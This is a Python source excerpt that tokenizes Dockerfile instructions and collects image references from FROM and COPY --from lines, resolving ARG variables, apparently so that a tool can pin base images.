def _instructions(text: str) -> Iterator[tuple[str, list[_Word], int]]:
    """(keyword upper-cased, argument words with file offsets, file offset of the keyword) per instruction.

    Handles the ``escape`` parser directive, line continuations, comment lines inside continuations, and
    blank lines (Dockerfile reference, "Parser directives" and "Format").
    """
    escape_char = "\\"
    lines = re.split(r"(?<=\n)", text)
    # Parser directives: only at the very top, as "# directive=value" comments.
    for line in lines:
        match = re.match(r"#\s*([a-zA-Z]+)\s*=\s*(\S+)\s*$", line)
        if not match:
            break
        if match.group(1).lower() == "escape" and match.group(2) in ("\\", "`"):
            escape_char = match.group(2)
    offset = 0
    chars: list[tuple[str, int]] = []  # logical instruction characters with their file offsets
    for line in lines:
        line_start = offset
        offset += len(line)
        body = line.rstrip("\r\n")
        stripped = body.strip()
        if not chars and (not stripped or stripped.startswith("#")):
            continue
        if chars and (not stripped or stripped.startswith("#")):
            continue  # comment or empty line inside a continuation: removed by the builder
        trimmed = body.rstrip()
        continues = trimmed.endswith(escape_char)
        content = trimmed[:-1] if continues else body
        # A continuation joins the lines without adding a space (the next line's indentation stays).
        chars.extend((c, line_start + i) for i, c in enumerate(content))
        if continues:
            continue
        yield _split_instruction(chars)
        chars = []
    if chars:
        yield _split_instruction(chars)


def _split_instruction(chars: list[tuple[str, int]]) -> tuple[str, list[_Word], int]:
    words: list[_Word] = []
    current: list[tuple[str, int]] = []

    def flush() -> None:
        if current:
            offsets = [o for _, o in current]
            contiguous = offsets == list(range(offsets[0], offsets[0] + len(offsets)))
            words.append(_Word("".join(c for c, _ in current), offsets[0], offsets[-1] + 1, contiguous))
            current.clear()

    for char, offset in chars:
        if char in " \t":
            flush()
        else:
            current.append((char, offset))
    flush()
    if not words:
        return "", [], 0
    return words[0].text.upper(), words[1:], words[0].start


def _arg_value(text: str) -> str:
    if len(text) >= 2 and text[0] == text[-1] and text[0] in "'\"":
        return text[1:-1]
    return text


def _dockerfile(path: str, text: str, lookup: Lookup, policy: VariablePolicy) -> Iterator[Finding]:
    lines = _Lines(text)
    global_args: dict[str, str | None] = {}
    stages: set[str] = set()
    seen_from = False

    def arg_lookup(name: str) -> str | None:
        # A declared global ARG's default wins (what 'docker build' uses without --build-arg); an ARG without
        # a default takes the environment's value, as a CI job passing --build-arg NAME=$NAME would.
        if name in global_args:
            default = global_args[name]
            return default if default is not None else lookup(name)
        return lookup(name)

    def make(word: _Word, field_name: str) -> Finding | None:
        raw = word.text
        if raw.lower() == "scratch" or raw.lower() in stages:
            return None
        line, column = lines.position(word.start)
        resolved, skipped, had_vars = _resolve(raw, arg_lookup, policy, dollar_escape=False)
        if resolved is not None and (resolved.lower() == "scratch" or resolved.lower() in stages):
            return None
        target = Target(word.start, word.end, raw) if word.contiguous else None
        why_not: str | None = None if word.contiguous else "the reference is split across lines"
        if had_vars and why_not is None:
            why_not = "contains variables; only literal references are pinned"
        return Finding(path, line, column, "dockerfile", field_name, raw, resolved, skipped, target, why_not)

    for keyword, words, _ in _instructions(text):
        if keyword == "ARG" and not seen_from:
            for word in words:
                name, eq, value = word.text.partition("=")
                global_args[name] = _arg_value(value) if eq else None
        elif keyword == "FROM":
            seen_from = True
            args = [w for w in words if not w.text.startswith("--")]
            if not args:
                continue
            found = make(args[0], "FROM")
            if len(args) >= 3 and args[1].text.lower() == "as":
                stages.add(args[2].text.lower())
            if found is not None:
                yield found
        elif keyword == "COPY":
            for word in words:
                if word.text.startswith("--from="):
                    value = word.text[len("--from=") :]
                    if not value or value.isdigit() or value.lower() in stages:
                        continue
                    sub = _Word(value, word.start + len("--from="), word.end, word.contiguous)
                    found = make(sub, "COPY --from")
                    if found is not None:
                        yield found
